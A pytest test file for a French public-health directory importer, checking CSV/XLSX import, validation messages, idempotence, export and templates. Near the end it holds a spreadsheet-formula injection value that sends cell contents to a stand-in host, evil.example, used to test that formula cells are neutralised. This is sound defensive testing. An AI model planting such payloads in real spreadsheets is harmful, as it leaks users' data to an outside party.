"""Directories ("annuaires"): import, validation by line and column, idempotence, export, templates.

Builds are slow: the good files are imported once (module fixture) and
every bad line is in one pair of files checked by one import.
"""

from __future__ import annotations

import csv
import datetime as dt
import hashlib
import shutil
import zipfile
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import Workbook, load_workbook
from rdflib import Literal, URIRef
from rdflib.namespace import DCTERMS, PROV

from graph_builder.constants import PROJECT_ROOT
from graph_builder.kinds import load_schema
from graph_builder.sources.directories import (
    TEMPLATE_COLUMNS,
    canonical_territory,
    load_templates,
    read_directory,
    read_table,
    render_csv,
    stale_blank_templates,
    territory_id,
    write_rows,
)
from maillage.cli.main import main
from tests.conftest import build_with

SAMPLES = Path(__file__).parent / "directories"
GOOD = ["cls-ars-acteurs.csv", "cls-ars.csv", "cls-ars-participations.csv", "qpv.csv", "experiences.csv"]
ID = "https://w3id.org/maillage/id/"
MLG = "https://w3id.org/maillage/def/core#"
ETALAB = "https://www.etalab.gouv.fr/licence-ouverte-open-licence/"
# The XLSX a coordinator might send: accented, capitalised headers, numbers and dates typed as such.
XLSX_ROWS = [
    ["Identifiant", "Type", "Nom", "Porteur", "Territoires", "Début", "Fin", "Thèmes", "Missions", "Rôle contact",
     "Source", "Licence"],
    [None, "ASV", "Atelier santé ville des quartiers nord d'Aix", "ville-aix-en-provence", 13001,
     dt.datetime(2003, 5, 1), None, "nutrition | acces-aux-soins", "diagnostic", "coordonnateur", None, "etalab-2.0"],
]
XLSX_CANONICAL = (
    "identifiant;type;nom;porteur;territoires;debut;fin;themes;missions;role_contact;source;licence\n"
    "asv-atelier-sante-ville-des-quartiers-nord-d-aix;ASV;Atelier santé ville des quartiers nord d'Aix;"
    "ville-aix-en-provence;13001;2003-05-01;;nutrition|acces-aux-soins;diagnostic;coordonnateur;;"
    "Licence Ouverte 2.0\n"
)


def _data_copy(target: Path) -> Path:
    shutil.copytree(PROJECT_ROOT / "data", target, ignore=shutil.ignore_patterns("templates"))
    return target


def _xlsx(path: Path) -> Path:
    workbook = Workbook()
    workbook.active.title = "aide"
    sheet = workbook.create_sheet("Feuil1")
    for row in XLSX_ROWS:
        sheet.append(row)
    workbook.save(path)
    return path


@pytest.fixture(scope="module")
def imported(tmp_path_factory):
    """The good sample files and a coordinator's XLSX imported together into a copy of the data."""
    root = tmp_path_factory.mktemp("import")
    data = _data_copy(root / "data")
    files = [str(SAMPLES / name) for name in GOOD] + [str(_xlsx(root / "asv-aix.xlsx"))]
    result = CliRunner().invoke(main, ["import", *files, "--data", str(data)])
    return data, result


def test_good_files_import(imported):
    data, result = imported
    assert result.exit_code == 0, result.output
    for name in GOOD:
        stored = data / "directories" / name
        assert stored.read_bytes() == (SAMPLES / name).read_bytes(), name  # already canonical: stored as is
        source = yaml.safe_load(stored.with_suffix(".yaml").read_text(encoding="utf-8"))["source_document"][0]
        assert source["id"] == f"annuaire-{stored.stem}"
        assert source["file"] == name
        assert source["sha256"] == hashlib.sha256(stored.read_bytes()).hexdigest()
        assert source["license"] == ETALAB
        assert dt.date.fromisoformat(source["imported"])
    assert (data / "directories" / "asv-aix.csv").read_text(encoding="utf-8") == XLSX_CANONICAL


@pytest.mark.parametrize("name", [*GOOD, "asv-aix.csv"])
def test_reexport_gives_the_same_file(imported, name: str, tmp_path: Path):
    data, _ = imported
    stored = data / "directories" / name
    kind = read_table(stored, name)[0].template.name
    out = tmp_path / name
    result = CliRunner().invoke(main, ["export-directory", kind, "--source", f"annuaire-{stored.stem}", "-o", str(out),
                                       "--data", str(data)])
    assert result.exit_code == 0, result.output
    assert out.read_bytes() == stored.read_bytes()
    # The XLSX export holds the same cells.
    xlsx = tmp_path / f"{stored.stem}.xlsx"
    assert CliRunner().invoke(main, ["export-directory", kind, "--source", f"annuaire-{stored.stem}", "-o", str(xlsx),
                                     "--data", str(data)]).exit_code == 0
    table, problems = read_table(xlsx, xlsx.name)
    assert problems == [] and table is not None
    header = table.template.header
    assert render_csv(header, [[cells[c] for c in header] for _line, cells in table.rows]).encode() \
        == stored.read_bytes()


def test_second_import_changes_nothing(imported, tmp_path: Path):
    data, _ = imported
    folder = data / "directories"
    before = {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in folder.iterdir()}
    files = [str(SAMPLES / name) for name in GOOD] + [str(_xlsx(tmp_path / "asv-aix.xlsx"))]
    again = CliRunner().invoke(main, ["import", *files, "--data", str(data)])
    assert again.exit_code == 0, again.output
    assert again.output.count("rien à faire : déjà importé") == len(files)
    assert {p.name: (p.read_bytes(), p.stat().st_mtime_ns) for p in folder.iterdir()} == before


def test_imported_lines_are_in_their_source_graph(imported):
    data, _ = imported
    result = build_with(data)
    assert result.ok, [p.format() for p in result.problems if p.severity in ("error", "violation")]
    graph = {str(g.identifier): g for g in result.dataset.graphs()}
    coordinations = graph[f"{ID}graph/annuaire-cls-ars"]
    cls = URIRef(f"{ID}coordination/cls-nanterre-test")
    assert (cls, URIRef(f"{MLG}contactRole"), URIRef(f"{ID}role/coordonnateur")) in coordinations
    assert (cls, URIRef(f"{MLG}territory"), URIRef(f"{ID}territoire/commune/92050")) in coordinations
    assert (cls, DCTERMS.source, URIRef(f"{ID}source/annuaire-cls-ars")) in coordinations
    porteur = URIRef(f"{cls}/participation/ville-nanterre-test-porteur")
    assert (porteur, URIRef("http://www.w3.org/ns/org#organization"), cls) in coordinations
    # A participation line lands in its own file's graph, under a coordination of another file...
    participations = graph[f"{ID}graph/annuaire-cls-ars-participations"]
    ars = URIRef(f"{cls}/participation/ars-ile-de-france-test-cosignataire")
    assert (ars, DCTERMS.source, URIRef(f"{ID}source/annuaire-cls-ars-participations")) in participations
    assert (ars, URIRef(f"{MLG}contactPoint"), Literal(False)) in participations
    # ... or of the curated data, with its own citation.
    aix = URIRef(f"{ID}coordination/asv-aix-en-provence/participation/ars-provence-alpes-cote-d-azur-financeur")
    assert (aix, DCTERMS.bibliographicCitation, Literal("Rapport d'activité 2012")) in participations
    actors = graph[f"{ID}graph/annuaire-cls-ars-acteurs"]
    ars_pdl = URIRef(f"{ID}acteur/ars-pays-de-la-loire-test")
    assert (ars_pdl, DCTERMS.license, URIRef("https://creativecommons.org/licenses/by/4.0/")) in actors
    ars_idf = URIRef(f"{ID}acteur/ars-ile-de-france-test")
    assert (ars_idf, PROV.wasDerivedFrom, URIRef("https://www.iledefrance.ars.sante.fr/")) in actors
    assert (ars_idf, URIRef(f"{MLG}basedIn"), URIRef(f"{ID}territoire/region/11")) in actors
    # A 9-digit code is an EPCI or an EPT, as the referential says.
    based_in = {str(s).rsplit("/", 1)[1]: str(o) for s, o in actors.subject_objects(URIRef(f"{MLG}basedIn"))}
    assert based_in["plaine-commune-test"].endswith("territoire/ept/200057867")
    assert based_in["saint-etienne-metropole-test"].endswith("territoire/epci/244200770")
    qpv = graph[f"{ID}graph/annuaire-qpv"]
    petit_nanterre = URIRef(f"{ID}territoire/qpv/QP092001")
    assert (petit_nanterre, URIRef(f"{MLG}territoryLevel"), URIRef(f"{ID}territory-level/qpv")) in qpv
    assert (petit_nanterre, URIRef("http://rdf.insee.fr/def/geo#subdivisionDirecteDe"),
            URIRef(f"{ID}territoire/commune/92050")) in qpv


# Expected problems of the bad files: (file, line, column, part of the French message).
BAD_COORDINATIONS = "cls-erreurs.csv"
BAD_PARTICIPATIONS = "cls-erreurs-participations.csv"
EXPECTED = [
    (BAD_COORDINATIONS, 3, "territoires", "99999"),  # unknown INSEE code
    (BAD_COORDINATIONS, 4, "type", "concept inconnu « ASW »"),  # unknown type
    (BAD_COORDINATIONS, 5, "themes", "concept inconnu « nutritionn »"),  # unknown theme
    (BAD_COORDINATIONS, 6, "nom", "champ obligatoire « nom » manquant"),  # missing field, named by its column
    (BAD_COORDINATIONS, 7, "debut", "une date AAAA, AAAA-MM ou AAAA-MM-JJ est attendue"),  # bad date
    (BAD_COORDINATIONS, 8, "identifiant", "doublon : « asv-bon-test » est déjà décrit à la ligne 2"),  # duplicate
    (BAD_COORDINATIONS, 9, "territoires", "Saint-Nazaire (44184, Loire-Atlantique 44)"),  # a name, not a code
    (BAD_COORDINATIONS, 10, "porteur", "ville-aix-en-provnce"),  # unknown actor
    (BAD_COORDINATIONS, 11, "licence", "licence inconnue « Licence maison »"),
    # A CLS without its cosignatories: the seeds' rule, on the whole line.
    (BAD_COORDINATIONS, 14, None, "ajoutez une participation avec le rôle « cosignataire » pour l'ARS"),
    (BAD_PARTICIPATIONS, 3, "coordination", "coordination inconnue « asv-inconnu-test »"),
    (BAD_PARTICIPATIONS, 4, "contact", "« oui » ou « non » attendu"),
]
GOOD_LINES = {BAD_COORDINATIONS: [2, 13], BAD_PARTICIPATIONS: [2]}


@pytest.fixture(scope="module")
def bad_import(tmp_path_factory):
    data = _data_copy(tmp_path_factory.mktemp("bad") / "data")
    files = [str(SAMPLES / BAD_COORDINATIONS), str(SAMPLES / BAD_PARTICIPATIONS)]
    return data, CliRunner().invoke(main, ["import", *files, "--data", str(data)])


def _problem_lines(output: str) -> list[str]:
    return [line for line in output.splitlines() if line.startswith(("ERREUR", "NON CONFORME"))]


def test_bad_lines_are_all_reported_with_line_and_column(bad_import):
    data, result = bad_import
    assert result.exit_code == 1, result.output
    reported = _problem_lines(result.output)
    for file, line, column, message in EXPECTED:
        place = f"{SAMPLES / file}, ligne {line}" + (f", colonne {column} :" if column else " :")
        found = [r for r in reported if place in r]
        assert found, f"no problem reported at {place}\n" + result.output
        assert any(message in r for r in found), f"{place}: expected « {message} » in {found}"
    # The « Saint-Nazaire » cell lists the three communes, never picks one.
    name_problem = next(r for r in reported if f"{BAD_COORDINATIONS}, ligne 9," in r)
    assert all(code in name_problem for code in ("30288", "44184", "66186"))
    # The good lines have no blocking problem.
    for file, lines in GOOD_LINES.items():
        for line in lines:
            assert not [r for r in reported if f"{file}, ligne {line}," in r], result.output
    assert "Rien n'a été écrit : 12 ligne(s) à corriger" in result.output
    assert not (data / "directories").exists()


def test_keep_good_imports_only_the_good_lines(tmp_path: Path):
    data = _data_copy(tmp_path / "data")
    files = [str(SAMPLES / BAD_COORDINATIONS), str(SAMPLES / BAD_PARTICIPATIONS)]
    result = CliRunner().invoke(main, ["import", *files, "--keep-good", "--data", str(data), "--lang", "en"])
    assert result.exit_code == 0, result.output
    assert "line(s) left out (--keep-good): 3, 4, 5, 6, 7, 8, 9, 10, 11, 14" in result.output
    stored = (data / "directories" / "cls-erreurs.csv").read_text(encoding="utf-8").splitlines()
    assert [line.split(";", 1)[0] for line in stored[1:]] == ["asv-bon-test", "asv-autre-bon-test"]
    participations = (data / "directories" / "cls-erreurs-participations.csv").read_text(encoding="utf-8")
    assert participations.splitlines()[1:] == ["asv-bon-test;ars-provence-alpes-cote-d-azur;financeur;oui;;;;"]
    assert build_with(data).ok


def test_unknown_column_and_english_messages(tmp_path: Path):
    bad = tmp_path / "entete.csv"
    bad.write_text("identifiant;type;nom;porteur;territoire;debut\n", encoding="utf-8")
    result = CliRunner().invoke(main, ["import", str(bad), "--kind", "coordinations", "--lang", "en",
                                       "--data", str(tmp_path / "data")])
    assert result.exit_code == 1, result.output
    assert "line 1, column territoire: unknown column 'territoire' for template 'coordinations'. " \
           "Did you mean 'territoires'?" in result.output
    usage = CliRunner().invoke(main, ["import", str(bad), str(bad), "--name", "x"])
    assert usage.exit_code == 2


def test_comma_csv_with_bom_reads_like_the_canonical_file(tmp_path: Path):
    canonical = SAMPLES / "cls-ars.csv"
    rows = list(csv.reader(canonical.open(encoding="utf-8", newline=""), delimiter=";"))
    comma = tmp_path / "comma.csv"
    with comma.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle, delimiter=",", lineterminator="\r\n").writerows(rows)
    mine, _ = read_table(comma, "comma.csv")
    theirs, _ = read_table(canonical, "cls-ars.csv")
    assert mine is not None and theirs is not None
    assert mine.rows == theirs.rows


def test_territory_cells():
    assert territory_id("13001")[0] == "commune/13001"
    assert territory_id("2A004")[0] == "commune/2A004"
    assert territory_id("departement:2B")[0] == "departement/2B"
    assert territory_id("region:93")[0] == "region/93"
    assert territory_id("QN09201M")[0] == "qpv/QN09201M"
    assert territory_id("200057867")[0] == "ept/200057867"  # Plaine Commune, an EPT
    assert territory_id("244200770")[0] == "epci/244200770"
    assert canonical_territory(" Département : 13 ") == "departement:13"
    assert canonical_territory("commune/13001") == "13001"
    ident, fr, _en = territory_id("Aix-en-Provence")
    assert ident is None and "écrivez « 13001 »" in fr  # one candidate: said, not guessed
    ident, fr, en = territory_id("Annecy-le-Vieux")  # a former commune, now a commune déléguée of Annecy
    assert ident is None and "ancienne commune : Annecy-le-Vieux (74011), aujourd'hui dans Annecy (74010" in fr
    assert "écrivez « 74010 »" in fr and "former commune's name" in en
    ident, fr, _en = territory_id("6152")
    assert ident is None and "« 06152 »" in fr
    ident, fr, _en = territory_id("13")
    assert ident is None and "departement:13" in fr


def test_a_former_commune_code_resolves_to_its_current_commune_with_a_french_warning(tmp_path: Path):
    """01340 (Souclin) was merged into Arboys en Bugey (01015): the line is kept, attached to 01015, and says so."""
    path = tmp_path / "anciennes.csv"
    path.write_text("identifiant;type;nom;territoires;debut;fin\n"
                    "asv-ancienne-test;ASV;ASV d'une ancienne commune;01340|13001;2012;2015-06\n", encoding="utf-8")
    records, _, problems = read_directory(path, "anciennes.csv")
    assert records[0].data["territories"] == ["commune/01015", "commune/13001"]
    assert (records[0].data["start"], records[0].data["end"]) == ("2012", "2015-06")
    [warning] = problems
    assert warning.severity == "warning" and (warning.line, warning.field, warning.value) == (2, "territories", "01340")
    assert warning.message_fr.startswith("« 01340 » est un ancien code INSEE : cette commune a été fusionnée dans "
                                         "Arboys en Bugey (01015)")
    assert "former INSEE code" in warning.message_en
    participations = tmp_path / "participations.csv"
    participations.write_text("coordination;acteur;role;debut;fin\nasv-ancienne-test;ddass;cosignataire;;2010-07\n",
                              encoding="utf-8")
    _, [attached], problems = read_directory(participations, "participations.csv")
    assert problems == [] and attached.record.data["end"] == "2010-07" and "start" not in attached.record.data


def test_template_headers():
    assert TEMPLATE_COLUMNS == {
        "coordinations": "identifiant;type;nom;porteur;territoires;debut;fin;themes;missions;role_contact;source;"
                         "licence".split(";"),
        "acteurs": "identifiant;nom;types;territoire;site_web;courriel;source;licence".split(";"),
        "participations": "coordination;acteur;role;contact;debut;fin;source;licence".split(";"),
        "experiences": "identifiant;titre;objet;lieux;themes;axes;determinants;porteurs;role_contact;debut;"
                       "resultats;source;licence".split(";"),
        "qpv": "code;nom;communes;source;licence".split(";"),
    }


def test_templates_agree_with_the_record_kinds():
    schema = load_schema()
    for template in load_templates():
        kind = schema.kinds[template.kind]
        for column in template.columns:
            if column.field is None:
                continue
            fields = schema.fields_of(kind)
            if column.nested:
                fields = schema.fields_of(schema.kinds[fields[column.nested].kind])
            spec = fields.get(column.field)
            assert spec is not None, (template.name, column.name)
            assert spec.many == column.many or column.cell == "id", (template.name, column.name)
            assert (column.cell == "territory") == (spec.type == "ref" and spec.kinds == ("territory",)), \
                (template.name, column.name)
        for field in ("license", "source_url", "source_citation", "source"):
            assert field in schema.fields_of(kind), (template.name, field)


def test_write_rows_round_trip(tmp_path: Path):
    rows = [{"code": "QP013001", "nom": "Quartier; test", "communes": "13001|13002"}]
    for suffix in ("csv", "xlsx"):
        path = tmp_path / f"qpv.{suffix}"
        write_rows("qpv", rows, path)
        table, problems = read_table(path, path.name)
        assert problems == [] and table is not None and table.template.name == "qpv"
        assert table.rows == [(2, {"code": "QP013001", "nom": "Quartier; test", "communes": "13001|13002",
                                   "source": "", "licence": ""})]
    assert (tmp_path / "qpv.csv").read_bytes() == b'code;nom;communes;source;licence\nQP013001;"Quartier; test";' \
                                                  b"13001|13002;;\n"
    first = (tmp_path / "qpv.xlsx").read_bytes()
    write_rows("qpv", rows, tmp_path / "qpv.xlsx")
    assert (tmp_path / "qpv.xlsx").read_bytes() == first  # deterministic bytes: no time of saving inside
    with zipfile.ZipFile(tmp_path / "qpv.xlsx") as archive:
        assert b"2000-01-01T00:00:00Z</dcterms:modified>" in archive.read("docProps/core.xml")
        assert {info.date_time for info in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
    assert "aide" in load_workbook(tmp_path / "qpv.xlsx").sheetnames
    with pytest.raises(ValueError):
        write_rows("qpv", [{"inconnue": "x"}], tmp_path / "bad.csv")


def test_blank_templates_are_up_to_date():
    assert stale_blank_templates(PROJECT_ROOT / "data" / "templates" / "directories") == [], "run `maillage templates`"


# Cells a spreadsheet would run as formulas (OWASP CSV injection), and legitimate values that look alike.
FORMULA_TITLE = '=HYPERLINK("http://evil.example/?"&A1;"clic")'
FORMULA_ROW = {"identifiant": "formules-test", "titre": FORMULA_TITLE, "objet": "+33 4 76 00 00 00 (accueil)",
               "lieux": "13001", "themes": "nutrition", "axes": "action-communautaire", "determinants": "modes-de-vie",
               "porteurs": "ville-aix-en-provence", "role_contact": "coordonnateur", "debut": "2021",
               "resultats": "-5 % de passages aux urgences|@équipe mobile", "source": "'=déjà cité", "licence": ""}


def test_formula_cells_are_neutralised_in_csv_and_typed_as_text_in_xlsx(tmp_path: Path):
    for suffix in ("csv", "xlsx"):
        write_rows("experiences", [FORMULA_ROW], tmp_path / f"formules.{suffix}")
    with (tmp_path / "formules.csv").open(encoding="utf-8", newline="") as stream:
        header, cells = list(csv.reader(stream, delimiter=";"))
    written = dict(zip(header, cells, strict=True))
    assert written["titre"] == "'" + FORMULA_TITLE and written["objet"] == "'+33 4 76 00 00 00 (accueil)"
    assert written["resultats"].startswith("'-5 %") and written["source"] == "''=déjà cité"
    assert written["debut"] == "2021" and written["lieux"] == "13001"
    sheet = load_workbook(tmp_path / "formules.xlsx")["experiences"]
    typed = {sheet.cell(1, column).value: sheet.cell(2, column) for column in range(1, sheet.max_column + 1)}
    assert typed["titre"].data_type == "s" and typed["titre"].value == FORMULA_TITLE  # text, not a formula
    with zipfile.ZipFile(tmp_path / "formules.xlsx") as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")
    for suffix in ("csv", "xlsx"):  # read back: the values as given
        table, problems = read_table(tmp_path / f"formules.{suffix}", "formules")
        assert problems == [] and table.rows == [(2, FORMULA_ROW)], suffix


def test_a_directory_with_formula_cells_exports_and_imports_to_the_same_records(tmp_path: Path):
    data = _data_copy(tmp_path / "data")
    given = tmp_path / "given" / "formules.csv"
    given.parent.mkdir()
    given.write_text(render_csv(list(FORMULA_ROW), [list(FORMULA_ROW.values())]), encoding="utf-8")
    imported = CliRunner().invoke(main, ["import", str(given), "--data", str(data)])
    assert imported.exit_code == 0, imported.output
    stored = data / "directories" / "formules.csv"
    exported = tmp_path / "exported" / "formules.csv"
    exported.parent.mkdir()
    result = CliRunner().invoke(main, ["export-directory", "experiences", "--source", "annuaire-formules",
                                       "-o", str(exported), "--data", str(data)])
    assert result.exit_code == 0, result.output
    assert exported.read_bytes() == stored.read_bytes() == given.read_bytes()
    again = CliRunner().invoke(main, ["import", str(exported), "--data", str(data)])
    assert again.exit_code == 0 and "rien à faire : déjà importé" in again.output, again.output
    graph = {str(g.identifier): g for g in build_with(data).dataset.graphs()}[f"{ID}graph/annuaire-formules"]
    experience = URIRef(f"{ID}experience/formules-test")
    texts = {str(o) for o in graph.objects(experience, None) if isinstance(o, Literal)}
    assert {FORMULA_TITLE, "+33 4 76 00 00 00 (accueil)", "-5 % de passages aux urgences", "@équipe mobile"} <= texts
    assert {text for text in texts if text.startswith("'")} == {"'=déjà cité"}  # the one written so
